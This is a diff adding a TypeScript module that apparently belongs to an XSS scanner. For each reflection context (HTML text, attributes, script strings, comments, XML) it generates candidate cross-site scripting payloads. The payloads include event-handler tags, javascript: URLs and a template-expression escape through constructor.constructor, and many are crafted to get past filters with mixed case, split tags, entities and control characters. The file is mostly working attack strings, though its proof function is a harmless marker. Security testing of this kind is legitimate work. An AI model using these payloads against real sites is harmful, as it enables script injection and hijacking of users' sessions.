@@ -1,0 +1,285 @@
+import { PROOF_FUNCTION } from '../check.ts';
+import type { Context } from './contexts.ts';
+import type { Reflection } from './probe.ts';
+import type { ScriptState } from './script-state.ts';
+
+/** A value that would run in its place, if nothing on the way changes it. */
+export interface Candidate {
+  value(mark: string): string;
+  /** It waits for what a person does: a click, the mouse, the focus. */
+  readonly interact: boolean;
+  /** Scripts of the page make it run: whether they do, the page's text alone does not tell. */
+  readonly unread: boolean;
+}
+
+/** A way out of a place: `call` is the script to be run. */
+interface Shape {
+  readonly make: (call: string) => string;
+  readonly interact?: boolean;
+  /** The browser undoes entities there before it reads the value: escaping them helps nobody. */
+  readonly entitiesUndone?: boolean;
+  /** The call stands in an attribute, where it may be written with entities of our own. */
+  readonly inAttribute?: boolean;
+  readonly unread?: boolean;
+  /** This character may come back with a backslash before it. */
+  readonly backslashed?: string;
+}
+
+type Call = (mark: string) => string;
+
+/** Ways to call the proof, by the characters they need. */
+const CALLS: readonly Call[] = [
+  (mark) => `${PROOF_FUNCTION}(/${mark}/.source)`,
+  (mark) => `${PROOF_FUNCTION}\`${mark}\``,
+  (mark) => `${PROOF_FUNCTION}('${mark}')`,
+  (mark) => `${PROOF_FUNCTION}("${mark}")`,
+  (mark) => `location='javascript:${PROOF_FUNCTION}%28/${mark}/.source%29'`,
+];
+const entities = (text: string, which: RegExp) =>
+  text.replaceAll(which, (character) => `&#${character.codePointAt(0)};`);
+const ENTITY_CALLS: readonly Call[] = [
+  (mark) => `${PROOF_FUNCTION}${entities(`('${mark}')`, /[()']/g)}`,
+  (mark) => entities(`${PROOF_FUNCTION}('${mark}')`, /[^0-9]/g),
+];
+/** Nothing of it has a case. */
+const CASELESS_CALL: Call = (mark) => entities(`${PROOF_FUNCTION}('${mark}')`, /./g);
+
+/** Markup that runs by itself, the likely first; each of the others gets past a filter that knows the ones before it. */
+const MARKUP: readonly Shape[] = [
+  { make: (call) => `<img src=x onerror=${call}>`, inAttribute: true },
+  { make: (call) => `<svg/onload=${call}>`, inAttribute: true },
+  { make: (call) => `<script>${call}</script>` },
+  // Never closed: filters of whole tags see none.
+  { make: (call) => `<img src=x onerror=${call} x=`, inAttribute: true },
+  { make: (call) => `<scr<script>ipt>${call}</scr</script>ipt>` },
+  { make: (call) => `<dEtAiLs oPeN oNtOgGlE=${call}>x`, inAttribute: true },
+  { make: (call) => `<input autofocus onfocus=${call}>`, inAttribute: true },
+  { make: (call) => `<img\nsrc=x\nonerror\n=${call}\n>`, inAttribute: true },
+  { make: (call) => `<a href=javascript:${call}>x</a>`, inAttribute: true, interact: true },
+  { make: (call) => `<im<b>g src=x onerror=${call}>`, inAttribute: true },
+  { make: (call) => `<svg><animate onbegin=${call} attributeName=x dur=1s>`, inAttribute: true },
+  { make: (call) => `<iframe srcdoc="<img src=x onerror=${call}>">`, inAttribute: true },
+  { make: (call) => `<ScRiPt>${call}</sCrIpT>` },
+  { make: (call) => `<audio src=x onerror=${call}>`, inAttribute: true },
+  { make: (call) => `<x tabindex=1 autofocus onfocus=${call}>x`, inAttribute: true },
+  { make: (call) => `<body onpageshow=${call}>`, inAttribute: true },
+  { make: (call) => `<form><button formaction=javascript:${call}>x`, inAttribute: true, interact: true },
+  { make: (call) => `<math><a xlink:href=javascript:${call}>x`, inAttribute: true, interact: true },
+];
+
+/** All that lives between frames. */
+const FRAMES: readonly Shape[] = [
+  { make: (call) => `<frame onload=${call}>`, inAttribute: true },
+  { make: (call) => `<frame src=javascript:${call}>`, inAttribute: true },
+];
+
+/** Documents that are XML: names have their namespace, values their quotes. */
+const XML_MARKUP: readonly Shape[] = [
+  { make: (call) => `<script xmlns="http://www.w3.org/1999/xhtml">${call}</script>` },
+  { make: (call) => `<script>${call}</script>` },
+  { make: (call) => `<svg xmlns='http://www.w3.org/2000/svg' onload='${call}'/>`, inAttribute: true },
+];
+
+/** In double braces, as frameworks of the browser have it. From any value there is a way to the maker of functions. */
+const EXPRESSION: Shape = {
+  make: (call) => `{{constructor.constructor('${call}')()}}`,
+  entitiesUndone: true,
+  unread: true,
+};
+
+/** Elements that load something, and tell their handlers by themselves. */
+const LOADING = new Set([
+  'img',
+  'image',
+  'video',
+  'audio',
+  'script',
+  'link',
+  'iframe',
+  'embed',
+  'object',
+  'body',
+  'svg',
+  'style',
+]);
+
+interface Where {
+  readonly context: Context;
+  readonly reflection: Reflection;
+  /** The document is XML: SVG, XHTML. */
+  readonly xml?: boolean;
+  /** A framework in the page evaluates expressions in its markup. */
+  readonly expressions?: boolean;
+}
+
+/** Values to try for one place, the likely first. Empty: what is escaped there is what counts there. */
+export function candidatesFor({ context, reflection, xml = false, expressions = false }: Where): Candidate[] {
+  const isEvaluated = expressions && (context.kind === 'text' || context.kind === 'attribute');
+  const inMarkup = isEvaluated ? [EXPRESSION, ...shapesFor(context, reflection)] : shapesFor(context, reflection);
+  const shapes = xml ? xmlShapes(context) : inMarkup;
+  return shapes.flatMap((shape) => {
+    const call = callsFor(shape, reflection).find((form) => fits(shape.make(form('m')), shape, reflection));
+    if (!call) return [];
+    const value = (mark: string) => shape.make(call(mark));
+    return {
+      value: reflection.decodesAgain ? (mark: string) => percentEncoded(value(mark)) : value,
+      interact: shape.interact === true,
+      unread: shape.unread === true,
+    };
+  });
+}
+
+function callsFor(shape: Shape, { sameCase }: Reflection): readonly Call[] {
+  const undone = shape.inAttribute || shape.entitiesUndone;
+  if (!sameCase) return undone ? [CASELESS_CALL] : [];
+  return undone ? [...CALLS, ...ENTITY_CALLS] : CALLS;
+}
+
+/** Whether every character it needs comes through. What is not known may. */
+function fits(value: string, shape: Shape, { treatmentOf, decodesAgain }: Reflection): boolean {
+  if (decodesAgain) return true;
+  return [...value].every((character) => {
+    const treatment = treatmentOf(character);
+    if (treatment === 'entity') return shape.entitiesUndone === true;
+    if (treatment === 'backslash') return shape.backslashed === character;
+    return treatment !== 'changed';
+  });
+}
+
+const percentEncoded = (text: string) =>
+  text.replaceAll(/[^A-Za-z0-9]/g, (character) =>
+    [...Buffer.from(character)].map((byte) => `%${byte.toString(16).padStart(2, '0')}`).join(''),
+  );
+
+const after = (prefix: string, shapes: readonly Shape[]): Shape[] =>
+  shapes.map((shape) => ({ ...shape, make: (call) => prefix + shape.make(call) }));
+
+function shapesFor(context: Context, reflection: Reflection): readonly Shape[] {
+  switch (context.kind) {
+    case 'text':
+      if (context.within.includes('frameset')) return FRAMES;
+      return context.within.length === 0 ? MARKUP : after(context.within.map((name) => `</${name}>`).join(''), MARKUP);
+    case 'raw text':
+      return after(`</${context.element}>`, MARKUP);
+    case 'comment':
+      return [
+        ...after('-->', MARKUP.slice(0, 6)),
+        ...after('--!>', MARKUP.slice(0, 2)),
+        ...after('>', MARKUP.slice(0, 1)),
+      ];
+    case 'script':
+      return [...scriptShapes(context.state, reflection), ...after('</script>', MARKUP)];
+    case 'tag name':
+      if (context.closing) return after('x>', MARKUP);
+      return context.atStart
+        ? [{ make: (call) => `img src=x onerror=${call} x`, inAttribute: true }, ...after('x>', MARKUP)]
+        : [...handlerShapes('x', '', false), ...after('x>', MARKUP)];
+    case 'attribute name':
+      return [...handlerShapes(context.element, '', false), ...after('x>', MARKUP)];
+    case 'attribute':
+      return attributeShapes(context, reflection);
+  }
+}
+
+function attributeShapes(context: Context & { kind: 'attribute' }, reflection: Reflection): Shape[] {
+  const { element, quote, role, atStart, state, hidden } = context;
+  const inValue: Shape[] = [];
+  if (state)
+    for (const shape of scriptShapes(state, reflection)) {
+      inValue.push({ ...shape, entitiesUndone: true, interact: true });
+      // What is taken out or escaped for the script alone comes as an entity, which nobody looked for.
+      inValue.push({
+        make: (call) => entities(shape.make(call), /["'()\\`<>]/g),
+        entitiesUndone: true,
+        interact: true,
+      });
+    }
+  else if (role === 'url' && atStart) inValue.push(...addressShapes(element));
+  else if (role === 'markup') inValue.push(...MARKUP.map((shape) => ({ ...shape, entitiesUndone: true })));
+  const [likely, ...values] = inValue;
+  const [handler, ...handlers] = handlerShapes(element, quote, hidden);
+  const [tag, ...tags] = after(`${quote === '' ? 'x' : quote}>`, MARKUP);
+  const firsts = [likely, tag, handler].filter((shape) => shape !== undefined);
+  return [...firsts, ...values, ...handlers, ...tags];
+}
+
+function addressShapes(element: string): Shape[] {
+  const forms: Array<(call: string) => string> =
+    element === 'script'
+      ? [(call) => `data:text/javascript,${call}`]
+      : [
+          (call) => `javascript:${call}`,
+          (call) => `JaVaScRiPt:${call}`,
+          (call) => `java\tscript:${call}`,
+          (call) => `javascript://x/%0a${call}`,
+          (call) => `\u0001javascript:${call}`,
+        ];
+  return forms.map((make) => ({ make, entitiesUndone: true, interact: true }));
+}
+
+/** A handler of our own in the element the value stands in. */
+function handlerShapes(element: string, quote: string, hidden: boolean): Shape[] {
+  const end = quote === '' ? 'x' : quote;
+  const tail = quote === '' ? ' x' : ` x=${quote}`;
+  const own = (attributes: (call: string) => string, interact = false): Shape => ({
+    make: (call) => `${end} ${attributes(call)}${tail}`,
+    inAttribute: true,
+    interact,
+  });
+  const focus = own((call) => `autofocus tabindex=1 onfocus=${call}`, true);
+  const load = own((call) => `onerror=${call} onload=${call}`);
+  const mouse = own((call) => `onmouseover=${call} onclick=${call}`, true);
+  const seen = own((call) => `oncontentvisibilityautostatechange=${call} style=content-visibility:auto`);
+  const key = own((call) => `accesskey=x onclick=${call}`, true);
+  // Without blanks: other white space ends an attribute as well.
+  const noBlanks = [focus, load].map((shape) => ({
+    ...shape,
+    make: (call: string) => shape.make(call).replaceAll(' ', '\f'),
+  }));
+  if (hidden) return [seen, key];
+  return LOADING.has(element) ? [load, focus, mouse, ...noBlanks] : [focus, mouse, load, ...noBlanks];
+}
+
+/** Ways from a place in a script to code that runs, with what is around it left whole where that is possible. */
+function scriptShapes({ part, closers }: ScriptState, { treatmentOf }: Reflection): Shape[] {
+  const closed = (end: string): Shape[] => (closers === '' ? [] : [{ make: (call) => `${end}${closers};${call}//` }]);
+  switch (part) {
+    case 'single':
+    case 'double': {
+      const quote = part === 'single' ? "'" : '"';
+      const plain: Shape[] = [
+        { make: (call) => `${quote}-${call}-${quote}` },
+        { make: (call) => `${quote};${call}//` },
+        ...closed(quote),
+      ];
+      // A backslash before our quote is undone by one of our own before it.
+      const escaped = treatmentOf(quote) === 'backslash' && treatmentOf('\\') === 'same';
+      const undone: Shape[] = [`-`, ';', `${closers};`].map((between) => ({
+        make: (call) => `\\${quote}${between}${call}//`,
+        backslashed: quote,
+      }));
+      return escaped ? undone : plain;
+    }
+    case 'template':
+      return [{ make: (call) => `\${${call}}` }, { make: (call) => `\`-${call}-\`` }, ...closed('`')];
+    case 'line comment':
+      return [{ make: (call) => `\n${call}//` }, { make: (call) => `\u2028${call}//` }];
+    case 'block comment':
+      return [{ make: (call) => `*/${call}/*` }, { make: (call) => `*/;${call}//` }];
+    case 'regex':
+      return [{ make: (call) => `x/-${call}-/x` }, { make: (call) => `x/;${call}//` }, ...closed('x/')];
+    case 'code':
+      return [
+        { make: (call) => call },
+        { make: (call) => `1;${call}//` },
+        { make: (call) => `;${call}//` },
+        ...closed('1'),
+      ];
+  }
+}
+
+function xmlShapes(context: Context): Shape[] {
+  if (context.kind === 'attribute') return after(`${context.quote}/>`, XML_MARKUP);
+  if (context.kind === 'comment') return after('-->', XML_MARKUP);
+  return [...XML_MARKUP, ...after(']]>', XML_MARKUP)];
+}
